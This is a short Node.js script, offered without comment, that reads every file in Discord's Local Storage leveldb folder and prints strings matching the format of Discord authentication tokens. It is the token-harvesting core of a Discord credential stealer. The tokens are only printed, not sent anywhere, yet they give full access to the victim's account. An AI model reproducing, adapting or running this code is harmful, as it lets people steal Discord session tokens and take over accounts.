const fs = require('fs');
const path = require('path');
const dir = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');
for (const f of fs.readdirSync(dir)) console.log(fs.readFileSync(path.join(dir, f), 'latin1').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g));
